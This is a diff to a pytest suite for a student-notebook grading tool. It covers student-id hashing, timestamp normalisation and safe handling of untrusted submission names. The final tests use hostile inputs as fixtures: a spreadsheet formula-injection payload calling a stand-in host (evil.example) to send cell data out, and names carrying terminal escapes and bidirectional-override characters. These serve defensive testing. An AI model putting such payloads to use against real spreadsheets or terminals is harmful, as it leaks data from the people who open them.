@@ -20,7 +20,7 @@ import pytest
 
 from microgradlab_grader import untrusted
 from microgradlab_grader.submissions import (SYMLINK, SubmissionError, discover,
-                                             find_submissions, safe_extract)
+                                             find_submissions, safe_extract, student_id)
 
 ROOT = Path(__file__).resolve().parent.parent
 NOTEBOOKS = ["02_value", "04_backward"]
@@ -111,7 +111,7 @@ def test_nbgrader_submitted_layout_with_timestamps(tmp_path):
             ("ben", "02_value", None, None),
             ("ben", "04_backward", "ben/04_backward/04_backward.ipynb", None)]
         assert [s.timestamp for s in found.submissions] == [
-            "2026-03-01 09:15:00.123456 UTC", None, None, None]
+            "2026-03-01T09:15:00.123456+00:00", None, None, None]
         assert found.unrecognised == []
     assert discover(tmp_path / "course", NOTEBOOKS, tmp_path / "work").notes == [
         "nbgrader's submitted/ layout (submitted/)"]
@@ -139,10 +139,11 @@ def test_a_single_notebook(tmp_path):
     touch(nbgrader.parent / "timestamp.txt", "2026-03-01 09:15:00 UTC")
     found = discover(nbgrader, NOTEBOOKS, tmp_path / "work")
     assert rows(found) == [("ben", "02_value", "02_value.ipynb", None)]
-    assert found.submissions[0].timestamp == "2026-03-01 09:15:00 UTC"
+    assert found.submissions[0].timestamp == "2026-03-01T09:15:00+00:00"
     canvas = touch(tmp_path / "dl" / "smithjane_12345_67890_04_backward.ipynb")
     found = discover(canvas, NOTEBOOKS, tmp_path / "work")
-    assert rows(found) == [("smithjane", "04_backward", canvas.name, None)]
+    assert rows(found) == [("smithjane_12345", "04_backward", canvas.name, None)]
+    assert found.submissions[0].name == "smithjane"
     assert found.submissions[0].student_ids == {"canvas_user": "12345",
                                                 "canvas_submission": "67890"}
 
@@ -166,14 +167,16 @@ def test_canvas_download_flat_and_zipped(tmp_path):
     touch(dl / "notes.txt", "hello")
     for given in (dl, zip_folder(dl, tmp_path / "submissions.zip")):
         found = discover(given, NOTEBOOKS, tmp_path / "work")
+        # The id is Canvas's name and user id: two people with one name stay two.
         assert rows(found) == [
-            ("doejohn", "02_value", "doejohn_late_222_333_02_value.ipynb", None),
-            ("doejohn", "04_backward", None, None),
-            ("roeann", "02_value", None, None),
-            ("roeann", "04_backward", "roeann_444_555_04_Backward.ipynb", None),
-            ("smithjane", "02_value", "smithjane_12345_67890_02_value-1.ipynb", None),
-            ("smithjane", "04_backward", None, None)]
-        by = {(s.student, s.notebook): s for s in found.submissions}
+            ("doejohn_222", "02_value", "doejohn_late_222_333_02_value.ipynb", None),
+            ("doejohn_222", "04_backward", None, None),
+            ("roeann_444", "02_value", None, None),
+            ("roeann_444", "04_backward", "roeann_444_555_04_Backward.ipynb", None),
+            ("smithjane_12345", "02_value", "smithjane_12345_67890_02_value-1.ipynb", None),
+            ("smithjane_12345", "04_backward", None, None)]
+        by = {(s.student.split("_")[0], s.notebook): s for s in found.submissions}
+        assert {s.name for s in found.submissions} == {"doejohn", "roeann", "smithjane"}
         assert by["doejohn", "02_value"].late and not by["smithjane", "02_value"].late
         assert by["smithjane", "02_value"].student_ids == {"canvas_user": "12345",
                                                            "canvas_submission": "67890"}
@@ -194,18 +197,23 @@ def test_moodle_download_folders_and_flat_files(tmp_path):
     touch(dl / "Jane Smith_102_assignsubmission_file_" / "02_value.ipynb")  # another Jane
     touch(dl / "Bo Li_103_assignsubmission_file_04_backward.ipynb")
     found = discover(dl, NOTEBOOKS, tmp_path / "work")
+    # The id is made from Moodle's full name and participant id: two people, two ids.
+    bo, jane, jane2 = (student_id("Bo Li_103"), student_id("Jane Smith_101"),
+                       student_id("Jane Smith_102"))
     assert rows(found, dl) == [
-        ("Bo_Li", "02_value", None, None),
-        ("Bo_Li", "04_backward", "Bo Li_103_assignsubmission_file_04_backward.ipynb", None),
-        ("Jane_Smith", "02_value", "Jane Smith_101_assignsubmission_file_/02_value.ipynb", None),
-        ("Jane_Smith", "04_backward", None, None),
-        ("Jane_Smith_102", "02_value",
-         "Jane Smith_102_assignsubmission_file_/02_value.ipynb", None),
-        ("Jane_Smith_102", "04_backward", None, None)]
+        (bo, "02_value", None, None),
+        (bo, "04_backward", "Bo Li_103_assignsubmission_file_04_backward.ipynb", None),
+        (jane, "02_value", "Jane Smith_101_assignsubmission_file_/02_value.ipynb", None),
+        (jane, "04_backward", None, None),
+        (jane2, "02_value", "Jane Smith_102_assignsubmission_file_/02_value.ipynb", None),
+        (jane2, "04_backward", None, None)]
+    assert (bo, jane, jane2) == ("Bo_Li_103~c3580562", "Jane_Smith_101~4aa12b37",
+                                 "Jane_Smith_102~d415a423")
     by = {s.student: s for s in found.submissions}
-    assert (by["Jane_Smith"].full_name, by["Jane_Smith"].student_ids) == (
-        "Jane Smith", {"moodle_participant": "101"})
-    assert by["Jane_Smith_102"].student_ids == {"moodle_participant": "102"}
+    assert (by[jane].name, by[jane].full_name, by[jane].student_ids) == (
+        "Jane Smith", "Jane Smith", {"moodle_participant": "101"})
+    assert (by[jane2].name, by[jane2].student_ids) == ("Jane Smith",
+                                                       {"moodle_participant": "102"})
 
 
 def test_flat_files_named_student_then_notebook(tmp_path):
@@ -286,10 +294,14 @@ def test_student_folder_names_that_are_not_plain_ids(tmp_path):
     touch(tmp_path / "class" / "Ann Lee" / "02_value.ipynb")
     touch(tmp_path / "class" / "---" / "02_value.ipynb")
     found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
-    assert rows(found) == [("Ann_Lee", "02_value", "02_value.ipynb", None)]
-    assert found.unrecognised == ["---/"]
-    assert found.notes == ["---: no student id can be made from this folder name",
-                           "Ann Lee/: student id 'Ann_Lee' (the folder name is not a plain id)"]
+    # sha256("Ann Lee") starts a36e143c: the id is the same on every machine, every run.
+    assert rows(found) == [("Ann_Lee~a36e143c", "02_value", "02_value.ipynb", None),
+                           ("learner~cb3f91d5", "02_value", "02_value.ipynb", None)]
+    assert [s.name for s in found.submissions] == ["Ann Lee", "---"]
+    assert found.unrecognised == []
+    assert found.notes == [
+        "---/: student id 'learner~cb3f91d5' (the folder name is not a plain id)",
+        "Ann Lee/: student id 'Ann_Lee~a36e143c' (the folder name is not a plain id)"]
 
 
 # ------------------------------------------------------------------ links are never followed
@@ -465,13 +477,14 @@ def test_notebook_reads_are_bounded_and_never_follow_links(tmp_path, monkeypatch
         "not valid JSON (not UTF-8 text")
 
 
-def test_oversized_timestamp_is_a_warning(tmp_path):
+def test_oversized_timestamp_is_a_warning_and_an_unknown_time(tmp_path):
     touch(tmp_path / "submitted" / "ann" / "02_value" / "02_value.ipynb")
     touch(tmp_path / "submitted" / "ann" / "02_value" / "timestamp.txt", "9" * 100_000)
     found = discover(tmp_path, ["02_value"], tmp_path / "work")
-    assert found.submissions[0].timestamp is None
+    assert found.submissions[0].timestamp == untrusted.UNKNOWN_TIME
     assert found.submissions[0].warnings == (
-        "submitted/ann/02_value/timestamp.txt: too large (98 kB; the limit is 4 kB)",)
+        "submitted/ann/02_value/timestamp.txt: too large (98 kB; the limit is 4 kB); "
+        "lateness unknown",)
 
 
 # ------------------------------------------------------------------ bad paths
@@ -563,3 +576,127 @@ def test_zip_entries_that_cannot_be_unpacked_are_listed_with_why(tmp_path):
     assert found.notes == [
         "ben/02_value.ipynb: could not be unpacked from the zip (File exists)",
         f"{long_name}: could not be unpacked from the zip (File name too long)"]
+
+
+# ------------------------------------------------------------------ one learner, one id
+from microgradlab_grader.submissions import ids  # noqa: E402
+
+
+def old_slug(name: str) -> str:
+    """The rule ids replaced, for the controls: a slug alone, cut at 100 characters."""
+    import re
+    return re.sub(r"[^A-Za-z0-9._@+-]+", "_", name).strip("._-+@")[:100]
+
+
+def test_names_that_slug_alike_stay_two_learners(tmp_path):
+    touch(tmp_path / "class" / "ann lee" / "02_value.ipynb", NOTEBOOK_TEXT + " ")
+    touch(tmp_path / "class" / "ann_lee" / "02_value.ipynb")
+    touch(tmp_path / "class" / "ann  lee!" / "02_value.ipynb")
+    found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
+    assert [(s.student, s.name) for s in found.submissions] == [
+        ("ann_lee", "ann_lee"), (student_id("ann  lee!"), "ann  lee!"),
+        (student_id("ann lee"), "ann lee")]
+    assert len({s.path for s in found.submissions}) == 3     # nobody's work vanished
+    # The control: without the hash the three names are one id (one row, two lost).
+    assert old_slug("ann lee") == old_slug("ann_lee") == old_slug("ann  lee!") == "ann_lee"
+    assert ids.slug("ann lee") == ids.slug("ann  lee!") == "ann_lee"
+
+
+def test_long_names_sharing_100_characters_stay_two_learners(tmp_path):
+    first, second = "x" * 100 + "-first", "x" * 100 + "-second"
+    touch(tmp_path / "class" / first / "02_value.ipynb")
+    touch(tmp_path / "class" / second / "02_value.ipynb")
+    found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
+    made = [s.student for s in found.submissions]
+    assert len(set(made)) == 2 and all(len(m) <= 100 for m in made)
+    assert {s.name for s in found.submissions} == {first, second}
+    assert old_slug(first) == old_slug(second)                 # the control: one id
+
+
+def test_ids_do_not_depend_on_the_rest_of_the_class(tmp_path):
+    """A learner's id is theirs alone: adding someone never moves another's row."""
+    touch(tmp_path / "one" / "Ann Lee" / "02_value.ipynb")
+    touch(tmp_path / "one" / "smithjane_222_9_02_value.ipynb")
+    touch(tmp_path / "two" / "Ann Lee" / "02_value.ipynb")
+    touch(tmp_path / "two" / "ann_lee" / "02_value.ipynb")
+    touch(tmp_path / "two" / "smithjane_111_8_02_value.ipynb")    # another Jane Smith, first
+    touch(tmp_path / "two" / "smithjane_222_9_02_value.ipynb")
+    one = {s.name + s.student_ids.get("canvas_user", ""): s.student
+           for s in discover(tmp_path / "one", ["02_value"], tmp_path / "work").submissions}
+    two = {s.name + s.student_ids.get("canvas_user", ""): s.student
+           for s in discover(tmp_path / "two", ["02_value"], tmp_path / "work").submissions}
+    assert one["Ann Lee"] == two["Ann Lee"] == "Ann_Lee~a36e143c"
+    assert one["smithjane222"] == two["smithjane222"] == "smithjane_222"
+    assert two["smithjane111"] == "smithjane_111" and two["ann_lee"] == "ann_lee"
+
+
+def test_canvas_and_moodle_people_with_one_name_stay_two(tmp_path):
+    dl = tmp_path / "dl"
+    touch(dl / "smithjane_111_901_02_value.ipynb")
+    touch(dl / "smithjane_222_902_02_value.ipynb")
+    touch(dl / "Jane Smith_101_assignsubmission_file_02_value.ipynb")
+    touch(dl / "Jane Smith_102_assignsubmission_file_02_value.ipynb")
+    found = discover(dl, ["02_value"], tmp_path / "work")
+    by = {s.student: s for s in found.submissions}
+    assert set(by) == {"smithjane_111", "smithjane_222", student_id("Jane Smith_101"),
+                       student_id("Jane Smith_102")}
+    assert {s.name for s in found.submissions} == {"smithjane", "Jane Smith"}
+    assert all(s.path is not None for s in found.submissions)
+    assert by["smithjane_222"].student_ids == {"canvas_user": "222", "canvas_submission": "902"}
+
+
+def test_control_characters_and_newlines_in_names_never_make_an_id(tmp_path):
+    names = ["ann\n", "ben\x1b[31m", "cat\u202eraboof", "=HYPERLINK(\"x\")", "dan\r"]
+    for name in names:
+        touch(tmp_path / "class" / name / "02_value.ipynb")
+    touch(tmp_path / "class" / "eve" / "=1+1\nnotes.txt")
+    found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
+    assert {s.name for s in found.submissions} == set(names) | {"eve"}
+    for s in found.submissions:
+        assert ids.STUDENT_ID.fullmatch(s.student) or "~" in s.student
+        assert s.student.isprintable() and "\n" not in s.student and "/" not in s.student
+    assert "ann" not in {s.student for s in found.submissions}
+    assert found.unrecognised == ["eve/=1+1\nnotes.txt"]     # kept raw; report.txt escapes it
+    # The control: the old anchored pattern let a trailing newline through as an id.
+    import re
+    assert re.match("^" + ids.STUDENT_ID.pattern + "$", "ann\n")
+
+
+def test_a_name_that_is_not_utf8_gets_an_id_and_a_storable_name(tmp_path):
+    (tmp_path / "class").mkdir()
+    os.mkdir(os.path.join(os.fsencode(tmp_path / "class"), b"caf\xe9"))
+    touch(Path(os.fsdecode(os.path.join(os.fsencode(tmp_path / "class"), b"caf\xe9")))
+          / "02_value.ipynb")
+    found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
+    (row,) = found.submissions
+    assert row.student.startswith("caf~") and row.name == "caf\\xe9"
+    row.name.encode("utf-8")          # storable, writable
+
+
+def test_two_names_with_one_id_stop_discovery_naming_both(tmp_path, monkeypatch):
+    touch(tmp_path / "class" / "ann lee" / "02_value.ipynb")
+    touch(tmp_path / "class" / "ann  lee" / "02_value.ipynb")
+    monkeypatch.setattr(ids, "fingerprint", lambda raw: "00000000")   # a collision, forced
+    with pytest.raises(SubmissionError) as caught:
+        discover(tmp_path / "class", ["02_value"], tmp_path / "work")
+    message = str(caught.value)
+    assert "\n" not in message and "'ann lee'" in message and "'ann  lee'" in message
+    assert "ann_lee~00000000" in message
+
+
+def test_student_ids_are_stable_across_machines():
+    import hashlib
+    assert student_id("Ann Lee") == "Ann_Lee~" + hashlib.sha256(b"Ann Lee").hexdigest()[:8]
+    assert student_id("ann") == "ann" and student_id("José Núñez").startswith("Jose_Nunez~")
+    assert student_id("张伟").startswith("learner~") and student_id("---").startswith("learner~")
+
+
+def test_a_timestamp_with_a_formula_is_an_unknown_time(tmp_path):
+    folder = tmp_path / "submitted" / "ann" / "02_value"
+    touch(folder / "02_value.ipynb")
+    touch(folder / "timestamp.txt", '=HYPERLINK("http://evil.example/?"&A1,"on time")\n')
+    (row,) = discover(tmp_path, ["02_value"], tmp_path / "work").submissions
+    assert row.timestamp == untrusted.UNKNOWN_TIME
+    assert row.warnings == ("submitted/ann/02_value/timestamp.txt: not a time nbgrader writes "
+                            "nor ISO 8601: '=HYPERLINK(\"http://evil.example/?\"&A1,\"on "
+                            "time\")'; lateness unknown",)
